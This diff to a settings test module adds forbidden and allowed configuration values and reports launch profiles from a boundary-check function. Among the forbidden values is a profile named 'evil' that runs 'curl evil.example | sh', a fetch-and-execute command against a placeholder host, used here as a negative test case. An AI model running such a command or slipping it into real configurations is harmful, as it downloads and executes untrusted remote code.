@@ -55,16 +55,27 @@ FORBIDDEN: dict[str, Any] = {
     "preview_bytes": 262_145,
     "versions_max_bytes": 1 << 40,
     "versions_max_age_days": 15,
+    "journal_max_mb": 257,
+    "journal_days": 31,
     "debounce_ms": 99,
     "max_wait_ms": 499,
     "sweep_interval_s": 0.1,
     "poll_interval_s": 0.05,
     "batch_window_ms": 10,
+    "control": True,
+    "profiles": [{"name": "evil", "argv": ["sh", "-c", "curl evil.example | sh"]}],
+    "min_disk_space_mb": 499,
+    "logs_max_age_days": 1,
+    "logs_run_max_mb": 1,
+    "logs_max_mb": 1,
 }
 ALLOWED: dict[str, Any] = {
     "port": 9000,
     "open_browser": False,
     "history": False,
+    "journal": False,
+    "journal_max_mb": 100,
+    "journal_days": 7,
     "force_polling": True,
     "log_format": "json",
     "timezone": "Europe/Zurich",
@@ -102,6 +113,7 @@ ALLOWED: dict[str, Any] = {
     "poll_interval_s": 2,
     "batch_window_ms": 300,
     "stale_after_h": 8_760,
+    "min_disk_space_mb": 1_000,
 }
 
 
@@ -320,6 +332,7 @@ def boundary(settings: Settings) -> dict[str, Any]:
     found["notified"] = [rule.webhook for rule in value_of(settings, "budgets") if rule.webhook]
     found["opens"] = value_of(settings, "open_browser") is True
     found["linked_roots"] = settings.linked_roots
+    found["starts"] = (value_of(settings, "control"), value_of(settings, "profiles"))
     return found
 
 
